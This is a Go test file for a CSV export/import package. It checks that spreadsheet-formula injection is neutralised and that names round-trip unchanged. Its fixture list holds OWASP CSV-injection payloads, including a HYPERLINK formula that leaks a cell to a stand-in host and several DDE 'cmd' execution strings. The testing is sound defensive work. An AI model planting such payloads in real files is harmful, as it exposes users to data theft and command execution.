package csvio_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"testing"

	"github.com/chipdesk/chipdesk/service"
	"github.com/chipdesk/chipdesk/service/csvio"
)

// formulas are the values OWASP's CSV injection page gives, and their
// near misses.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "'=1+1", "''+x", "'plain", "O'Brien", "-", "'", "",
}

// TestExportNeutralisesFormulas: no exported cell begins with =, +, -,
// @, a tab or a carriage return unless escaped by an apostrophe, and the
// import reads the names back unchanged.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, db service.Store) {
		ctx := context.Background()
		names := []string{}
		for _, f := range formulas {
			if service.CheckName("name", f, service.MaxNameLen) == nil && f != "" {
				names = append(names, f) // names refuse tabs and CRs, as a clerk's typing would
			}
		}
		for _, n := range names {
			if err := db.CreateOwner(ctx, &service.Owner{Name: n, Phone: "-1", Email: "@x"}); err != nil {
				t.Fatalf("CreateOwner(%q): %v", n, err)
			}
		}
		var out bytes.Buffer
		if err := csvio.Export(ctx, db, csvio.Owners, &out); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && (c[0] == '=' || c[0] == '+' || c[0] == '-' || c[0] == '@' || c[0] == '\t' || c[0] == '\r') {
					t.Errorf("exported cell %q would run as a formula", c)
				}
			}
		}
		fresh := openDB(t)
		if _, err := csvio.Import(ctx, fresh, map[csvio.Table]io.Reader{csvio.Owners: bytes.NewReader(out.Bytes())}); err != nil {
			t.Fatalf("Import: %v", err)
		}
		owners, _, err := fresh.FindOwners(ctx, service.OwnerFilter{})
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		for _, o := range owners {
			got[o.Name] = true
			if o.Phone != "-1" || o.Email != "@x" {
				t.Errorf("owner %q read back with phone %q email %q", o.Name, o.Phone, o.Email)
			}
		}
		for _, n := range names {
			if !got[n] {
				t.Errorf("name %q not read back unchanged (got %v)", n, got)
			}
		}
	})
}

// FuzzNeutraliseRoundTrip: Restore undoes Neutralise, and Neutralise's
// result never starts a formula.
func FuzzNeutraliseRoundTrip(f *testing.F) {
	for _, s := range formulas {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := csvio.Neutralise(s)
		if got := csvio.Restore(n); got != s {
			t.Fatalf("Restore(Neutralise(%q)) = %q", s, got)
		}
		if n != "" && (n[0] == '=' || n[0] == '+' || n[0] == '-' || n[0] == '@' || n[0] == '\t' || n[0] == '\r') {
			t.Fatalf("Neutralise(%q) = %q starts a formula", s, n)
		}
	})
}
